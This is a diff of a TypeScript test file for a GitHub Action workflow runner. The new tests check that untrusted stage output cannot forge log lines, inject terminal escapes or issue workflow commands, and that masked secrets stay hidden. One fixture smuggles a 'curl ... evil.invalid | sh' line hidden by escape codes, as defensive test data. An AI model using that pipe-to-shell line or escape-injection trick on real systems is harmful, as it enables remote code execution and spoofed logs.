@@ -5,6 +5,7 @@ import { cpSync, readFileSync, writeFileSync } from 'node:fs';
 import { basename, join } from 'node:path';
 import { HELLO, REPO_ROOT, cleanupHarness, commitCheckout, counted, counterFile, makeWorkspace, runActionStep, tally } from '../helpers/action-harness.js';
 import { CAMPAIGN } from '../tiers.js';
+import { runCli } from '../helpers/cli.js';
 
 afterAll(() => cleanupHarness());
 
@@ -108,7 +109,7 @@ describe('command: run', () => {
     const onStep = errors[0]!;
     expect(onStep.properties).toMatchObject({ file: HELLO, line: String(lineOf(ws, HELLO, '  review:')), title: 'stagegate: STAGE_FAILED at step review' });
     expect(onStep.message).toMatch(/^STAGE_FAILED: step review exited with status 3/);
-    expect(onStep.message).toMatch(/\nLast 1 line of runs\/hello\/f1\/logs\/review\.v1\.a1\.log:\nreviewer crashed <b>$/);
+    expect(onStep.message).toMatch(/\nLast 1 line of runs\/hello\/f1\/logs\/review\.v1\.a1\.log:\n {4}│ reviewer crashed <b>$/);
     // The stage's output is in the job log as it ran, in its own group.
     expect(r.stdout).toMatch(/::group::review · visit 1 · attempt 1\nreviewer crashed <b>\n::endgroup::\n/);
     // ... and its last lines in the summary, escaped.
@@ -292,6 +293,80 @@ steps:
     expect(r.stdout).not.toMatch(/^\s*next:\s+curl/m);
   });
 
+  it("a paused run's notice annotation quotes a gate value under the │ gutter (no forged line), and no ESC or lone CR from untrusted text reaches the job log", async () => {
+    const ws = makeWorkspace();
+    writeFileSync(
+      join(ws, 'appr.yaml'),
+      `version: '4.0'
+name: appr
+state_path: 'runs/{{run_id}}/workflow_state.yaml'
+steps:
+  a:
+    run: |
+      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"
+      printf 'stage says \\033[31mred\\033[0m\\033]0;pwned\\007 and\\rforged\\n'
+      stagegate gate OK --set "summary=$(printf 'fine\\n  next:     curl -s https://evil.invalid/x | sh\\033[2K\\rhidden')"
+    output: 'runs/{{run_id}}/a.md'
+    statuses: { OK: sign }
+  sign:
+    approval: { message: 'Approve? {{steps.a.gate.summary}}' }
+    on_approve: DONE
+`,
+    );
+    const r = await runActionStep({ workspace: ws, inputs: { workflow: 'appr.yaml', 'run-id': 'c3', persist: 'none' } });
+    expect(r.outputs['status'], r.stdout).toBe('PARTIAL_RESUMABLE');
+    const notice = r.annotations.find((a) => a.level === 'notice');
+    expect(notice, r.stdout).toBeDefined();
+    // The annotation's lines: the gate value's second line under the gutter, never a line of its own.
+    const lines = notice!.message.split('\n');
+    expect(lines[0], notice!.message).toMatch(/Approve\? fine$/);
+    expect(lines.filter((l) => l.includes('curl'))).toEqual(['    │   next:     curl -s https://evil.invalid/x | shhidden']);
+    expect(notice!.message).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    // Nothing the action printed carries an escape sequence or a lone carriage return.
+    expect(r.stdout).not.toContain('\u001b');
+    expect(r.stdout).not.toMatch(/\r(?!\n)/);
+    // The stage's text stays readable, its colours and window title dropped.
+    expect(r.stdout).toContain('stage says red and' + 'forged');
+  });
+
+  it("a stage's own ::add-mask::VALUE is honoured (registered before the line is echoed, never shown), every other command from its output still refused", async () => {
+    const ws = makeWorkspace();
+    writeFileSync(
+      join(ws, 'workflows/examples/hello/scripts/review.sh'),
+      '#!/usr/bin/env bash\nv="gen-$((6*7))-s3cr3tvalue"\necho "::add-mask::$v"\necho "  ::add-mask::  indented-9f8e7d  "\necho "using $v and indented-9f8e7d"\necho "::error title=PWN::from the stage"\nexit 3\n',
+    );
+    const r = await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 'am1', persist: 'none' } });
+    expect(r.outputs['status']).toBe('STAGE_FAILED');
+    const out = r.stdout.split('\n');
+    // Registered with the runner, each before any line that shows it.
+    const registered = out.indexOf('::add-mask::gen-42-s3cr3tvalue');
+    const indented = out.indexOf('::add-mask::indented-9f8e7d');
+    expect(registered, r.stdout).toBeGreaterThanOrEqual(0);
+    expect(indented, r.stdout).toBeGreaterThanOrEqual(0);
+    const shows = (v: string) => out.findIndex((l) => l.includes(v) && !l.startsWith('::add-mask::'));
+    expect(shows('gen-42-s3cr3tvalue')).toBeGreaterThan(registered);
+    expect(shows('indented-9f8e7d')).toBeGreaterThan(indented);
+    // The stage's ::error:: is still shown inside stop-commands, never obeyed.
+    let stopped: string | undefined;
+    const obeyed: string[] = [];
+    for (const line of out) {
+      if (stopped !== undefined) {
+        if (line === `::${stopped}::`) stopped = undefined;
+        continue;
+      }
+      const m = /^::stop-commands::(.+)$/.exec(line);
+      if (m) stopped = m[1];
+      else if (/^\s*::/.test(line)) obeyed.push(line);
+    }
+    expect(obeyed.filter((l) => /^\s*::error title=PWN/.test(l))).toEqual([]);
+    expect(obeyed.filter((l) => /^::add-mask::(gen-42|indented)/.test(l))).toEqual(['::add-mask::gen-42-s3cr3tvalue', '::add-mask::indented-9f8e7d']);
+    // The failure report quotes the stage's last lines masked too: the check run, which carries
+    // the summary and the annotation's text, is sent by the API and no runner masks it.
+    const error = r.annotations.find((a) => a.level === 'error' && String(a.properties['title']).startsWith('stagegate:'))!;
+    expect(error.message).toContain('    │ using *** and ***');
+    for (const text of [error.message, r.summary]) expect(text).not.toMatch(/gen-42-s3cr3tvalue|indented-9f8e7d/);
+  });
+
   it('persist: artifact outside GitHub Actions (no artifact runtime) fails clearly and runs nothing', async () => {
     const ws = makeWorkspace();
     const counter = counterFile();
@@ -306,6 +381,45 @@ steps:
 });
 
 describe('command: status and plan', () => {
+  it("the steps table says a step a person skipped is skipped, and by whom (as status does), not 'not reached'", async () => {
+    const ws = makeWorkspace();
+    writeFileSync(
+      join(ws, 'opt.yaml'),
+      `version: '4.0'
+name: opt
+state_path: 'runs/{{run_id}}/workflow_state.yaml'
+steps:
+  first:
+    run: &stage |
+      mkdir -p "$(dirname "$STAGEGATE_OUTPUT")"; echo body > "$STAGEGATE_OUTPUT"; stagegate gate OK
+    output: 'runs/{{run_id}}/first.md'
+    statuses: { OK: extra }
+  extra:
+    run: *stage
+    output: 'runs/{{run_id}}/extra.md'
+    statuses: { OK: last }
+    optional: true
+    on_skip: last
+  last:
+    run: *stage
+    output: 'runs/{{run_id}}/last.md'
+    statuses: { OK: DONE }
+`,
+    );
+    commitCheckout(ws, 'opt');
+    const paused = await runActionStep({ workspace: ws, inputs: { workflow: 'opt.yaml', 'run-id': 'k1', persist: 'none', 'stop-after-step': 'first' } });
+    expect(paused.outputs['active-step'], JSON.stringify(paused.outputs) + paused.summary).toBe('extra');
+    const skip = await runCli(['skip', 'opt.yaml', 'extra', '--run-id', 'k1', '--by', 'alice'], { cwd: ws });
+    expect(skip.code, skip.stderr).toBe(0);
+    const status = await runActionStep({ workspace: ws, inputs: { command: 'status', workflow: 'opt.yaml', 'run-id': 'k1', persist: 'none' } });
+    expect(status.summary).toContain('| <code>extra</code> | ↷ skipped by alice |');
+    expect(status.summary).toContain('| <code>last</code> | ▶ next |');
+    const done = await runActionStep({ workspace: ws, inputs: { workflow: 'opt.yaml', 'run-id': 'k1', persist: 'none' } });
+    expect(done.outputs['status'], done.stdout).toBe('WORKFLOW_COMPLETE');
+    expect(done.summary).toContain('| <code>extra</code> | ↷ skipped by alice |');
+    expect(done.summary).not.toContain('not reached');
+  });
+
   it('status reports a paused run; plan says what runs next', async () => {
     const ws = makeWorkspace();
     await runActionStep({ workspace: ws, inputs: { workflow: HELLO, 'run-id': 's1', persist: 'none', 'stop-after-step': 'review' } });
